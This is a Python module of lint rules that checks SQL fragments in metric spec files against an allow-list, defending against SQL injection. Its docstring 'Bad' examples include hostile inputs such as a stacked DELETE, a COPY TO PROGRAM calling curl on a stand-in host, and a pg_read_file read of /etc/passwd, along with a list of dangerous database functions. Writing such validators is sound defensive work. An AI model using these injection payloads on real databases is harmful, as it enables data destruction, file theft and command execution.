"""NS7xx: SQL fragments. A spec may read its source and nothing else.

Every `filter`, `sql`, `column`, `table` and `time_column` is parsed in the
dialect of its database (`dialect:` in northstar.yaml; portable SQL when
absent) and checked against one allow-list (northstar_spec.spec.sql_allowlist);
each finding points at the offending character inside the YAML value.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable, Iterator

from northstar_spec.spec import fragments, sql_allowlist, sql_tree
from northstar_spec.spec.diagnostics import Severity
from northstar_spec.spec.lint import Finding, LintContext
from northstar_spec.spec.rule import Rule, rule

E = Severity.ERROR
#: The allow-list, indented like the docstrings it is printed in.
_FUNCTIONS = textwrap.indent(sql_allowlist.functions_list(), "    ")
_FORMS = textwrap.indent(sql_allowlist.forms_list(), "    ")


def problems(ctx: LintContext, code: str) -> Iterator[Finding]:
    """The findings of one code over every fragment of every spec."""
    for spec in ctx.specs:
        for site in fragments.sites(spec):
            dialect = fragments.dialect_of(ctx.project, site.database)
            for problem in fragments.parse(site.text, site.kind, dialect).problems:
                if problem.code == code:
                    yield Finding(spec.document, site.path, problem.message, hint=problem.hint, offset=problem.offset)


def _checking(code: str) -> Callable[[LintContext], Iterator[Finding]]:
    def check(ctx: LintContext) -> Iterator[Finding]:
        return problems(ctx, code)

    return check


def _rule(code: str, name: str, hint: str, doc: str) -> Rule:
    check = _checking(code)
    check.__doc__ = doc
    return rule(code, name, E, hint)(check)


sql_syntax = _rule(
    sql_tree.SYNTAX,
    "sql-syntax",
    "check parentheses and quotes; declare the database's `dialect:` in northstar.yaml",
    """A SQL fragment is not valid SQL in its database's dialect.

    Why: a fragment that does not parse cannot be checked, so it never runs.
    It is read in the `dialect:` its database declares in northstar.yaml
    (postgresql, mysql, sqlite …), or as portable SQL when none is declared;
    commands that connect read it again in the dialect of the database's URI.

    Bad:

        filter: "event_type = 'signup' AND (plan = 'pro'"

    Good:

        filter: "event_type = 'signup' AND plan = 'pro'"
    """,
)

sql_one_statement = _rule(
    sql_tree.ONE_STATEMENT,
    "sql-one-statement",
    "remove the `;`",
    """A SQL fragment contains a `;`.

    Why: `;` ends a statement, and what follows would be a statement of its
    own: how a filter turns into `DROP TABLE`. A fragment is one expression,
    so it has no `;` anywhere, not even inside quotes (the database and a
    reviewer could disagree on where a quote ends).

    Bad:

        filter: "event_type = 'signup'; DELETE FROM accounts"

    Good:

        filter: "event_type = 'signup'"
    """,
)

sql_no_statement = _rule(
    sql_tree.NO_STATEMENT,
    "sql-no-statement",
    "write an expression over the source's columns; statements never run",
    """A SQL fragment is a statement or part of one (SELECT, DDL, DML, COPY, SET, ATTACH …).

    Why: a `filter` is a condition and `sql` an aggregate expression; northstar
    builds the query around them. Statements (DROP, DELETE, COPY … TO PROGRAM,
    CREATE ROLE, SET, ATTACH, PRAGMA) and query clauses (UNION, INTO OUTFILE,
    ORDER BY) have no place in either.

    Bad:

        filter: "COPY events TO PROGRAM 'curl evil.example'"

    Good:

        filter: "event_type = 'export_requested'"
    """,
)

sql_own_table = _rule(
    sql_tree.OWN_TABLE,
    "sql-own-table",
    "use the source's columns; other data belongs in the source's table or a view",
    """A SQL fragment reads another table: a subquery, a column qualified by a table, or a system catalog.

    Why: a spec may read its source and nothing else, whoever reviews it. A
    subquery (`x IN (SELECT …)`, `EXISTS (…)`) can read any table the
    database user can, and a source whose table is a catalog (pg_*,
    information_schema, sqlite_master, mysql.*) reads the database's secrets.

    Bad:

        filter: "account_id IN (SELECT id FROM admins)"

    Good:

        filter: "is_admin = 1"
    """,
)

sql_no_comment = _rule(
    sql_tree.NO_COMMENT,
    "sql-no-comment",
    "remove the comment; explain the metric in `description:`",
    """A SQL fragment contains a comment.

    Why: comments are where code hides from review (`/*! … */` runs on
    MySQL, nested comments end differently in different databases), and
    what is rendered never contains them anyway. Explain a metric in its
    `description:`.

    Bad:

        filter: "event_type = 'signup' -- and paid"

    Good:

        filter: "event_type = 'signup'"
        description: Sign-ups, paid or not.
    """,
)

sql_function = _rule(
    sql_tree.FUNCTION,
    "sql-function",
    "use a function of the allow-list (`northstar rules NS706`)",
    f"""A SQL fragment calls a function (or casts to a type) that is not on the allow-list.

    Why: databases have functions that sleep, read and write files, open
    connections, change settings or stop other sessions (pg_sleep,
    pg_read_file, lo_import, dblink, set_config, load_extension, benchmark,
    xp_cmdshell …). Only what a metric needs is allowed, so everything else,
    known or not yet known, is refused. Functions are recognized by what
    they parse into, whatever their spelling. The allow-list:

{_FUNCTIONS}

    Bad:

        filter: "pg_read_file('/etc/passwd') IS NOT NULL"

    Good:

        filter: "lower(plan) = 'pro'"
    """,
)

sql_filter_boolean = _rule(
    sql_tree.FILTER_BOOLEAN,
    "sql-filter-boolean",
    "write a condition: event_type = 'signup'",
    """A `filter` is not a condition on one row.

    Why: a filter decides, row by row, which rows a metric counts: it is a
    comparison, a combination of comparisons with AND, OR and NOT, or a
    boolean column. A number, a text or an aggregate is not.

    Bad:

        filter: "event_type"
        filter: "COUNT(*) > 10"

    Good:

        filter: "event_type = 'signup'"
    """,
)

sql_aggregate = _rule(
    sql_tree.AGGREGATE,
    "sql-aggregate",
    "aggregate every column: SUM(seconds) / 3600.0",
    """A metric's `sql` is not an aggregate expression.

    Why: `sql` computes one value per period from that period's rows, so it
    aggregates (COUNT, SUM, AVG, MIN, MAX …) and every column it reads is
    inside an aggregate. Arithmetic on aggregates is fine.

    Bad:

        sql: "seconds_played / 3600.0"

    Good:

        sql: "SUM(seconds_played) / 3600.0"
    """,
)

sql_form = _rule(
    sql_tree.FORM,
    "sql-form",
    "use the documented forms (`northstar rules NS709`)",
    f"""A SQL fragment uses a form that is not allowed, or allowed only elsewhere.

    Why: besides the functions, a fragment may use comparisons, arithmetic,
    CASE, literals and the source's columns. Placeholders, session variables
    (`@@version`), aliases, arrays, JSON paths, COLLATE and the like are
    refused; `*` belongs in COUNT(*), DISTINCT inside an aggregate, windows
    (OVER) in `sql`. A string may not contain a backslash: whether it escapes
    the next quote depends on server settings. The forms:

{_FORMS}

    Bad:

        filter: "plan = @@global.default_plan"

    Good:

        filter: "plan = 'pro'"
    """,
)

RULES = [
    sql_syntax,
    sql_one_statement,
    sql_no_statement,
    sql_own_table,
    sql_no_comment,
    sql_function,
    sql_filter_boolean,
    sql_aggregate,
    sql_form,
]
